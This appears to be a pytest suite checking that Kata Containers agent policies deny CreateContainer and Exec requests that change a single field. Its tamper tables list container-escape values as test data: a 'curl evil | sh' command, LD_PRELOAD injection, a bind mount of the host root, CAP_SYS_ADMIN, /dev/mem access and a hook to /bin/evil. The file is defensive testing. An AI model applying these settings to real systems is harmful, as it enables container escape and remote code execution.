"""The example policies (README's tests/policies/pod.rego, the demo's launcher/pod.py policy()) check what Kata's do.

Kata's genpolicy rules (kata-containers src/tools/genpolicy/rules.rego) compare, for
CreateContainer, the process (args, env, cwd, user, capabilities, no_new_privileges,
terminal), mounts, namespaces, storages, devices, sysctls, masked/read-only paths and
annotations, and for ExecProcess the command plus the container's cwd, user, env,
no_new_privileges and terminal, with no capabilities of the exec's own. Each table row
below is an allowed request with one field changed: both policies must deny it and the
denial must name the field. On main the example policies compared only the command, so
the exec rows (CAP_SYS_ADMIN, LD_PRELOAD, cwd, uid, ...) were allowed there.

Requests go through the agent's own serde and engine (agent.policy), as in the agent.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from google.protobuf import json_format
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.errors import PolicyError
from agent.policy import Policy
from agent.policy.engine import Decision
from agent.policy.serde import to_json
from agent.protocols import agent_pb2
from launcher import pod
from launcher.podspec import POLICY_TEXT, web_request

Edit = Callable[[dict[str, Any]], None]
LAYER = pod.Layer(Path("/nonexistent/layer.img"), "ab" * 32, 8192)
OTHER_HASH = pod.Layer(LAYER.path, "00" * 32, LAYER.hash_offset)


def decide(policy: Policy, endpoint: str, body: dict[str, Any]) -> Decision:
    msg = {"CreateContainerRequest": agent_pb2.CreateContainerRequest,
           "ExecProcessRequest": agent_pb2.ExecProcessRequest,
           "CreateSandboxRequest": agent_pb2.CreateSandboxRequest}[endpoint]()
    return policy.evaluate(endpoint, to_json(json_format.ParseDict(body, msg)))


def assert_denied(d: Decision, *names: str) -> None:
    assert not d.allowed, "allowed"
    said = " ".join(d.prints)
    for name in names:
        assert name in said, f"{name!r} not in {said!r}"


# --- edits: each changes one field of an allowed request (proto JSON field names) ---------------

def setter(path: str, value: Any) -> Edit:
    def edit(body: dict[str, Any]) -> None:
        *parents, last = path.split(".")
        node = body
        for key in parents:
            node = node.setdefault(key, {}) if isinstance(node, dict) else node[int(key)]
        if isinstance(node, list):
            node[int(last)] = copy.deepcopy(value)
        else:
            node[last] = copy.deepcopy(value)
    return edit


def appender(path: str, value: Any) -> Edit:
    def edit(body: dict[str, Any]) -> None:
        node: Any = body
        for key in path.split("."):
            node = node.setdefault(key, [] if key == path.rsplit(".", 1)[-1] else {})
        node.append(copy.deepcopy(value))
    return edit


def drop_namespace(kind: str) -> Edit:
    def edit(body: dict[str, Any]) -> None:
        linux = body["OCI"]["Linux"]
        linux["Namespaces"] = [ns for ns in linux["Namespaces"] if ns["Type"] != kind]
    return edit


def other_uid(path: str) -> Edit:
    """A uid other than the allowed one: 0 (root) unless the allowed one is 0, then 1000."""
    def edit(body: dict[str, Any]) -> None:
        node = body
        for key in path.split("."):
            node = node.setdefault(key, {})
        node["UID"] = 0 if node.get("UID", 0) != 0 else 1000
    return edit


CREATE_TAMPERS: dict[str, tuple[Edit, tuple[str, ...]]] = {
    "extra mount": (appender("OCI.Mounts", {"destination": "/host", "source": "/", "type": "bind",
                                            "options": ["rbind", "rw"]}), ("mount /host",)),
    "mount options": (setter("OCI.Mounts.0.options", ["nosuid"]), ("mount /proc",)),
    "mount source": (setter("OCI.Mounts.1.source", "/"), ("mount /dev",)),
    "missing namespace": (drop_namespace("ipc"), ("namespace ipc is missing",)),
    "namespace path": (appender("OCI.Linux.Namespaces", {"Type": "user", "Path": "/proc/1/ns/user"}),
                       ("namespace", "user")),
    "extra capability": (appender("OCI.Process.Capabilities.Bounding", "CAP_SYS_ADMIN"),
                         ("capability CAP_SYS_ADMIN in Bounding",)),
    "ambient capability": (appender("OCI.Process.Capabilities.Ambient", "CAP_SYS_ADMIN"),
                           ("capability CAP_SYS_ADMIN in Ambient",)),
    "no capabilities field": (setter("OCI.Process.Capabilities", None), ("capabilities", "missing")),
    "other user": (other_uid("OCI.Process.User"), ("User.UID",)),
    "other gid": (setter("OCI.Process.User.GID", 4242), ("User.GID",)),
    "additional gids": (setter("OCI.Process.User.AdditionalGids", [0]), ("User.AdditionalGids",)),
    "other env": (appender("OCI.Process.Env", "LD_PRELOAD=/tmp/x.so"), ("LD_PRELOAD=/tmp/x.so",)),
    "other args": (setter("OCI.Process.Args", ["/bin/sh", "-c", "curl evil | sh"]), ("/bin/sh",)),
    "other cwd": (setter("OCI.Process.Cwd", "/tmp"), ("Cwd",)),
    "no_new_privileges false": (setter("OCI.Process.NoNewPrivileges", False), ("NoNewPrivileges",)),
    "terminal": (setter("OCI.Process.Terminal", True), ("Terminal",)),
    "apparmor": (setter("OCI.Process.ApparmorProfile", "unconfined"), ("ApparmorProfile",)),
    "layer root hash": (setter("storages.0.driver_options.0", "cocoon.verity.roothash=" + "00" * 32),
                        ("storage",)),
    "storage options": (setter("storages.0.options", ["rw"]), ("storage",)),
    "shared storage": (setter("storages.0.shared", True), ("storage",)),
    "no storage": (setter("storages", []), ("storages",)),
    "root elsewhere": (setter("OCI.Root.Path", "/run/kata-containers/shared/containers/evil/rootfs"),
                       ("Root.Path",)),
    "root read-only": (setter("OCI.Root.Readonly", True), ("Root.Readonly",)),
    "hooks": (setter("OCI.Hooks", {"Prestart": [{"Path": "/bin/evil"}]}), ("OCI Hooks",)),
    "linux device": (appender("OCI.Linux.Devices", {"Path": "/dev/mem", "Type": "c", "Major": 1, "Minor": 1}),
                     ("device", "/dev/mem")),
    "device": (appender("devices", {"id": "x", "type": "blk", "vm_path": "/dev/vda", "container_path": "/dev/vda"}),
               ("device", "/dev/vda")),
    "cgroup device rule": (setter("OCI.Linux.Resources", {"Devices": [{"Allow": True, "Access": "rwm"}]}),
                           ("Resources",)),
    "sysctl": (setter("OCI.Linux.Sysctl", {"net.ipv4.ip_forward": "1"}), ("sysctl net.ipv4.ip_forward",)),
    "seccomp": (setter("OCI.Linux.Seccomp", {"DefaultAction": "SCMP_ACT_ALLOW"}), ("Seccomp",)),
    "sandbox pid namespace": (setter("sandbox_pidns", True), ("sandbox_pidns",)),
    "string user": (setter("string_user", {"uid": "0"}), ("string_user",)),
    "shared mounts": (appender("shared_mounts", {"name": "x", "src_ctr": "a", "src_path": "/", "dst_ctr": "b",
                                                 "dst_path": "/x"}), ("shared_mounts",)),
}

EXEC_TAMPERS: dict[str, tuple[Edit, tuple[str, ...]]] = {
    "CAP_SYS_ADMIN added": (setter("process.Capabilities", {"Bounding": ["CAP_SYS_ADMIN"],
                                                            "Effective": ["CAP_SYS_ADMIN"],
                                                            "Permitted": ["CAP_SYS_ADMIN"]}), ("Capabilities",)),
    "LD_PRELOAD in env": (appender("process.Env", "LD_PRELOAD=/tmp/x.so"), ("LD_PRELOAD=/tmp/x.so",)),
    "another cwd": (setter("process.Cwd", "/tmp"), ("Cwd",)),
    "another uid": (other_uid("process.User"), ("User.UID",)),
    "another gid": (setter("process.User.GID", 4242), ("User.GID",)),
    "additional gids": (setter("process.User.AdditionalGids", [0]), ("User.AdditionalGids",)),
    "terminal": (setter("process.Terminal", True), ("Terminal",)),
    "no_new_privileges false": (setter("process.NoNewPrivileges", False), ("NoNewPrivileges",)),
    "apparmor": (setter("process.ApparmorProfile", "unconfined"), ("ApparmorProfile",)),
    "string user": (setter("string_user", {"uid": "0"}), ("string_user",)),
    "command not listed": (setter("process.Args", ["sh"]), ("allow list",)),
    "unknown container": (setter("container_id", "f00df00df00d"), ("not created under this policy",)),
}

# On main the example policies compared only an exec's command: these were allowed there.
ADMITTED_ON_MAIN = ("CAP_SYS_ADMIN added", "LD_PRELOAD in env")


# --- the two policies under test, each with an allowed CreateContainer and an allowed exec --------

class Example:
    def __init__(self, name: str, text: str, create: Callable[[str], dict[str, Any]], exec_args: list[str]) -> None:
        self.name, self.policy, self.create, self.exec_args = name, Policy(text), create, exec_args

    def exec(self, cid: str) -> dict[str, Any]:
        if self.name == "demo":
            return pod.exec_request(cid, "probe", self.exec_args)
        # the web container's process settings, as the runtime takes them from its spec
        proc = self.create(cid)["OCI"]["Process"]
        return {"container_id": cid, "exec_id": "probe",
                "process": {k: v for k, v in proc.items() if k not in ("Capabilities", "Terminal", "ConsoleSize")}
                | {"Args": self.exec_args}}

    def created(self, cid: str) -> None:
        """Run the allowed CreateContainer so pstate knows ``cid`` (an exec must name a container created so)."""
        self.policy.load_state({"pstate": {}})
        d = decide(self.policy, "CreateContainerRequest", self.create(cid))
        assert d.allowed, d.prints
        self.policy.load_state({"pstate": {op["path"].rsplit("/", 1)[1]: op["value"] for op in d.ops}})


def web_dict(cid: str) -> dict[str, Any]:
    return json_format.MessageToDict(web_request(cid), preserving_proto_field_name=True)


@pytest.fixture(scope="module", params=["pod.rego", "demo"])
def example(request):  # type: ignore[no-untyped-def]
    if request.param == "pod.rego":
        ex = Example("pod.rego", POLICY_TEXT, web_dict, ["cat", "/etc/hostname"])
    else:
        ex = Example("demo", pod.policy(LAYER), lambda cid: pod.container_request(cid, pod.SERVICE_COMMAND, LAYER),
                     pod.PROBE_COMMAND)
    yield ex
    ex.policy.close()


CID = "c0ffee00c0ffee00"


def test_allowed_requests_are_allowed(example: Example) -> None:
    example.created(CID)
    d = decide(example.policy, "ExecProcessRequest", example.exec(CID))
    assert d.allowed, d.prints


@pytest.mark.parametrize("tamper", CREATE_TAMPERS)
def test_create_container_with_one_field_changed_is_denied(example: Example, tamper: str) -> None:
    edit, names = CREATE_TAMPERS[tamper]
    example.policy.load_state({"pstate": {}})
    body = example.create(CID)
    edit(body)
    assert_denied(decide(example.policy, "CreateContainerRequest", body), *names)


@pytest.mark.parametrize("tamper", EXEC_TAMPERS)
def test_exec_with_one_field_changed_is_denied(example: Example, tamper: str) -> None:
    edit, names = EXEC_TAMPERS[tamper]
    example.created(CID)
    body = example.exec(CID)
    edit(body)
    assert_denied(decide(example.policy, "ExecProcessRequest", body), *names)


def test_the_tampers_change_what_they_say() -> None:
    """Guard against a row that edits nothing (and so would pass only by accident)."""
    make: Callable[[], dict[str, Any]]
    for table, make in ((CREATE_TAMPERS, lambda: web_dict(CID)),
                        (EXEC_TAMPERS, lambda: pod.exec_request(CID, "probe", pod.PROBE_COMMAND))):
        for name, (edit, _) in table.items():
            body = make()
            before = json.dumps(body, sort_keys=True)
            edit(body)
            assert json.dumps(body, sort_keys=True) != before, name
    assert set(ADMITTED_ON_MAIN) <= set(EXEC_TAMPERS)


SHM = {"driver": "ephemeral", "source": "shm", "fstype": "tmpfs", "mount_point": "/run/kata-containers/sandbox/shm",
       "options": ["noexec", "nosuid", "nodev", "mode=1777", "size=67108864"]}


@pytest.mark.parametrize(("change", "allowed"), [
    ({}, True),
    ({"storages": [SHM]}, True),
    ({"storages": [SHM | {"mount_point": "/etc"}]}, False),
    ({"storages": [SHM | {"options": ["mode=1777"]}]}, False),
    ({"kernel_modules": [{"name": "evil"}]}, False),
    ({"guest_hook_path": "/usr/share/oci/hooks"}, False),
    ({"sandbox_pidns": True}, False),
], ids=["demo's", "shm", "storage elsewhere", "storage options", "kernel module", "guest hooks", "sandbox pidns"])
def test_create_sandbox(example: Example, change: dict[str, Any], allowed: bool) -> None:
    """Kata's CreateSandboxRequest rule: no hooks, no modules, no shared PID namespace, only the sandbox storages."""
    d = decide(example.policy, "CreateSandboxRequest", {"hostname": "demo-pod", "sandbox_id": "e2e"} | change)
    assert d.allowed is allowed, d.prints


# --- the demo's own requests: what `make demo` and the QEMU tests send --------------------------

def test_demo_policy_admits_what_the_demo_sends_and_records_it() -> None:
    p = Policy(pod.policy(LAYER, chaos=True))
    try:
        for cid, args, kw in (("hello", pod.MAIN_COMMAND, {}), ("svc", pod.SERVICE_COMMAND, {}),
                              ("x2", pod.MAIN_COMMAND, {"device": "/dev/disk/by-id/virtio-layer1"})):
            d = decide(p, "CreateContainerRequest", pod.container_request(cid, args, LAYER, **kw))
            assert d.allowed, (cid, d.prints)
        state = {"pstate": {"hello": 0, "svc": 1}}
        p.load_state(state)
        assert decide(p, "ExecProcessRequest", pod.exec_request("svc", "probe", pod.PROBE_COMMAND)).allowed
        # the probe is the svc container's, not hello's
        assert_denied(decide(p, "ExecProcessRequest", pod.exec_request("hello", "probe", pod.PROBE_COMMAND)),
                      "allow list")
        # what the demo and the QEMU test print for the refused shell
        d = decide(p, "ExecProcessRequest", pod.exec_request("svc", "shell", ["sh"]))
        assert not d.allowed and len(d.prints) == 1
        assert d.prints[0].endswith("""exec of ["sh"] is not in the pod's allow list"""), d.prints
        d = decide(p, "CreateContainerRequest", pod.container_request("x1", pod.MAIN_COMMAND, OTHER_HASH))
        assert_denied(d, "is not this pod's", "cocoon.verity.roothash=" + "00" * 32)
        d = decide(p, "CreateContainerRequest", pod.container_request("svc", pod.SERVICE_COMMAND, LAYER))
        assert_denied(d, "already in use")
        assert p.evaluate("RemoveContainerRequest", '{"container_id": "svc"}').ops == [
            {"op": "remove", "path": "/pstate/svc"}]
    finally:
        p.close()


def test_pod_rego_is_what_podspec_writes() -> None:
    """pod.rego is generated (python -m launcher.podspec): a hand edit, or rules.rego changed without
    regenerating, would test one policy and ship another."""
    from launcher import podspec

    assert podspec.render() == POLICY_TEXT


def test_demo_policy_is_deterministic() -> None:
    assert pod.policy(LAYER) == pod.policy(LAYER)
    assert LAYER.root_hash in pod.policy(LAYER)


# --- pod.rego's pause container: the image's own pause, no storage --------------------------------

def pause_dict(cid: str = "ba5eba11ba5eba11", **changes: Any) -> dict[str, Any]:
    from launcher import podspec

    body = web_dict(cid)
    p = podspec.policy_data()["containers"][0]
    oci = body["OCI"]
    ann = oci["Annotations"]
    ann.pop("io.kubernetes.cri.container-name")
    ann.pop("io.kubernetes.cri.image-name")
    ann["io.kubernetes.cri.container-type"] = "sandbox"
    ann["io.katacontainers.pkg.oci.container_type"] = "pod_sandbox"
    proc = oci["Process"]
    proc["Args"], proc["Env"] = p["OCI"]["Process"]["Args"], p["OCI"]["Process"]["Env"]
    proc["User"] = {"UID": 65535, "GID": 65535}
    oci["Root"]["Readonly"] = True
    oci["Linux"]["Sysctl"] = p["OCI"]["Linux"]["Sysctl"]
    body["storages"] = []
    body.update(changes)
    return body


@pytest.fixture(scope="module")
def rego() -> Iterator[Policy]:
    p = Policy(POLICY_TEXT)
    yield p
    p.close()


def test_pod_rego_pause_has_no_storage(rego: Policy) -> None:
    rego.load_state({"pstate": {}})
    d = decide(rego, "CreateContainerRequest", pause_dict())
    assert d.allowed and d.ops[0]["value"] == 0, d.prints
    rego.load_state({"pstate": {}})
    layer = web_dict("ba5eba11ba5eba11")["storages"]
    assert_denied(decide(rego, "CreateContainerRequest", pause_dict(storages=layer)), "pause: 1 storages")
    named = pause_dict()
    named["OCI"]["Annotations"]["io.kubernetes.cri.container-name"] = "web"
    assert_denied(decide(rego, "CreateContainerRequest", named), "sandbox may not carry")
    shell = pause_dict()
    shell["OCI"]["Process"]["Args"] = ["/bin/sh"]
    assert_denied(decide(rego, "CreateContainerRequest", shell), "process args")
    # a "container" request claiming to be the sandbox is compared with the sandbox entry, and fails
    web_as_sandbox = web_dict("ba5eba11ba5eba11")
    web_as_sandbox["OCI"]["Annotations"]["io.kubernetes.cri.container-type"] = "sandbox"
    assert_denied(decide(rego, "CreateContainerRequest", web_as_sandbox), "pause:")


def test_storage_shared_key_is_tolerated_and_compared(example: Example) -> None:
    """Storage.shared (Kata's field 8): policy input with "shared": false is allowed, with true denied."""
    doc = json.loads(to_json(json_format.ParseDict(example.create(CID), agent_pb2.CreateContainerRequest())))
    for shared, allowed in ((False, True), (True, False)):
        for s in doc["storages"]:
            s["shared"] = shared
        example.policy.load_state({"pstate": {}})
        d = example.policy.evaluate("CreateContainerRequest", json.dumps(doc))
        assert d.allowed is allowed, (shared, d.prints)
        if not allowed:
            assert_denied(d, "storage")


def test_a_field_missing_from_the_input_is_a_fault_not_an_allow(example: Example) -> None:
    """The rules read each field through a total accessor: an absent key is denied, never skipped."""
    doc = json.loads(to_json(json_format.ParseDict(example.create(CID), agent_pb2.CreateContainerRequest())))
    for path in (("OCI", "Process", "Cwd"), ("OCI", "Process", "NoNewPrivileges"), ("OCI", "Process", "Args"),
                 ("OCI", "Process", "Capabilities"), ("OCI", "Process", "Terminal"), ("OCI", "Linux", "Namespaces"),
                 ("OCI", "Root", "Path"), ("OCI", "Root"), ("OCI", "Version"), ("storages",), ("sandbox_pidns",),
                 ("OCI", "Process", "User", "UID"), ("OCI", "Process"), ("OCI",)):
        d = copy.deepcopy(doc)
        node = d
        for key in path[:-1]:
            node = node[key]
        if path[-1] == "UID" and (node is None or node["UID"] == 0):
            continue  # the demo runs as uid 0 (no User): an absent uid is uid 0 there
        del node[path[-1]]
        example.policy.load_state({"pstate": {}})
        assert not example.policy.evaluate("CreateContainerRequest", json.dumps(d)).allowed, path
    exec_doc = json.loads(to_json(json_format.ParseDict(example.exec(CID), agent_pb2.ExecProcessRequest())))
    for key in ("Cwd", "NoNewPrivileges", "Env", "Args", "Terminal"):
        example.created(CID)
        d = copy.deepcopy(exec_doc)
        del d["process"][key]
        if key == "Env":
            assert example.policy.evaluate("ExecProcessRequest", json.dumps(d)).allowed  # no variables: nothing added
            continue
        assert not example.policy.evaluate("ExecProcessRequest", json.dumps(d)).allowed, key


def test_pod_rego_binds_only_the_containers_own_files(rego: Policy) -> None:
    """Kata's sfprefix carries the bundle id: a container may not mount another container's copied files."""
    rego.load_state({"pstate": {}})
    body = web_dict(CID)
    hosts = next(m for m in body["OCI"]["Mounts"] if m["destination"] == "/etc/hosts")
    hosts["source"] = hosts["source"].replace(CID, "deadbeefdeadbeef")
    assert_denied(decide(rego, "CreateContainerRequest", body), "mount /etc/hosts")


# --- every field: each leaf of the allowed request's policy input, changed, is denied -------------

# Fields neither Kata's rules nor these compare (they do not widen what the container may do, or the
# agent does not use them), and values a pattern admits by design.
NOT_COMPARED = {
    ("exec_id",), ("stdin_port",), ("stdout_port",), ("stderr_port",), ("OCI", "Hostname"),
    ("OCI", "Process", "OOMScoreAdj"), ("OCI", "Process", "ConsoleSize"), ("OCI", "Linux", "CgroupsPath"),
}


def leaves(node: Any, path: tuple[Any, ...] = ()) -> list[tuple[tuple[Any, ...], Any]]:
    if isinstance(node, dict):
        return [leaf for key, value in node.items() for leaf in leaves(value, (*path, key))]
    if isinstance(node, list):
        return [leaf for i, value in enumerate(node) for leaf in leaves(value, (*path, i))]
    return [(path, node)]


def changed(value: Any) -> Any:
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return value + 1
    if isinstance(value, str):
        return value + "x"
    return None


def admitted_by_design(doc: dict[str, Any], path: tuple[Any, ...], value: Any) -> bool:
    """HOSTNAME=<dns label> is one of request_defaults' env regexes (Kata's allow_env_regex); the network
    namespace's path is not compared (Kata records it; the agent keeps every container in the VM's)."""
    if path[:3] == ("OCI", "Process", "Env") and str(value).startswith("HOSTNAME="):
        return True
    return path[:3] == ("OCI", "Linux", "Namespaces") and path[-1] == "Path" and \
        doc["OCI"]["Linux"]["Namespaces"][path[3]]["Type"] == "network"


def test_every_leaf_of_the_request_is_compared(example: Example) -> None:
    doc = json.loads(to_json(json_format.ParseDict(example.create(CID), agent_pb2.CreateContainerRequest())))
    checked = 0
    for path, value in leaves(doc):
        if value is None or path in NOT_COMPARED or admitted_by_design(doc, path, value):
            continue
        d = copy.deepcopy(doc)
        node = d
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = changed(value)
        example.policy.load_state({"pstate": {}})
        decision = example.policy.evaluate("CreateContainerRequest", json.dumps(d))
        assert not decision.allowed, f"{path} = {changed(value)!r} was allowed"
        checked += 1
    assert checked > 20
    exec_doc = json.loads(to_json(json_format.ParseDict(example.exec(CID), agent_pb2.ExecProcessRequest())))
    for path, value in leaves(exec_doc):
        if value is None or path in NOT_COMPARED or path in (("process", "OOMScoreAdj"), ("exec_id",)) or \
                (path[:2] == ("process", "Env") and str(value).startswith("HOSTNAME=")):
            continue
        example.created(CID)
        d = copy.deepcopy(exec_doc)
        node = d
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = changed(value)
        decision = example.policy.evaluate("ExecProcessRequest", json.dumps(d))
        assert not decision.allowed, f"exec {path} = {changed(value)!r} was allowed"


JSON = st.recursive(st.none() | st.booleans() | st.integers(-2**31, 2**31) | st.text(max_size=8),
                    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
                    max_leaves=6)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_value_in_any_field_is_denied_or_an_error_never_allowed(example: Example, data: st.DataObject) -> None:
    """Whatever a field holds instead of the allowed value (wrong type, null, nested junk): a denial or the
    engine's PolicyError, never an allow, never another exception."""
    doc = json.loads(to_json(json_format.ParseDict(example.create(CID), agent_pb2.CreateContainerRequest())))
    paths = [p for p, v in leaves(doc) if p not in NOT_COMPARED and not admitted_by_design(doc, p, v)]
    path = data.draw(st.sampled_from(paths))
    node = doc
    for key in path[:-1]:
        node = node[key]
    value = data.draw(JSON.filter(lambda v: v != node[path[-1]]))
    node[path[-1]] = value
    example.policy.load_state({"pstate": {}})
    try:
        decision = example.policy.evaluate("CreateContainerRequest", json.dumps(doc))
    except PolicyError:
        return
    assert not decision.allowed, f"{path} = {value!r} was allowed"


def test_pod_rego_interactive_commands_may_use_a_terminal_but_nothing_else() -> None:
    """request_defaults.ExecProcessRequest (Kata's allow_interactive_exec): any terminal, the rest as a probe."""
    text = POLICY_TEXT.replace('"allowed_commands": [],\n      "regex": []',
                               '"allowed_commands": [["/bin/sh"]],\n      "regex": ["^/bin/ls( -l)?$"]')
    assert text != POLICY_TEXT
    ex = Example("pod.rego", text, web_dict, ["/bin/sh"])
    p = ex.policy
    try:
        for args in (["/bin/sh"], ["/bin/ls", "-l"]):
            ex.exec_args = args
            ex.created(CID)
            body = ex.exec(CID)
            assert decide(p, "ExecProcessRequest", body).allowed
            body["process"]["Terminal"] = True
            assert decide(p, "ExecProcessRequest", body).allowed
            body["process"]["Cwd"] = "/tmp"
            assert_denied(decide(p, "ExecProcessRequest", body), "Cwd")
            p.load_state({"pstate": {}})
            assert_denied(decide(p, "ExecProcessRequest", ex.exec(CID)), "not created under this policy")
    finally:
        p.close()


def test_every_agent_service_request_has_a_decision_in_pod_rego() -> None:
    """A request the rules forgot is an engine error (INTERNAL), not a denial: every RPC needs its default."""
    policy = Policy(POLICY_TEXT)
    try:
        service = agent_pb2.DESCRIPTOR.services_by_name["AgentService"]
        for name in sorted({m.input_type.name for m in service.methods}):
            decision = policy.evaluate(name, "{}")  # raises PolicyError when the rules define no such rule
            assert isinstance(decision.allowed, bool), name
    finally:
        policy.close()


def test_every_agent_service_request_has_a_decision_in_the_demo_policy() -> None:
    """The demo's policy denies what it does not name with a denial, not an engine error."""
    layer = pod.Layer(Path("/unused"), "ab" * 32, 4096)
    policy = Policy(pod.policy(layer))
    try:
        service = agent_pb2.DESCRIPTOR.services_by_name["AgentService"]
        for name in sorted({m.input_type.name for m in service.methods}):
            decision = policy.evaluate(name, "{}")
            assert isinstance(decision.allowed, bool), name
        assert not policy.evaluate("CopyFileRequest", "{}").allowed
        assert not policy.evaluate("SetPolicyRequest", "{}").allowed
    finally:
        policy.close()
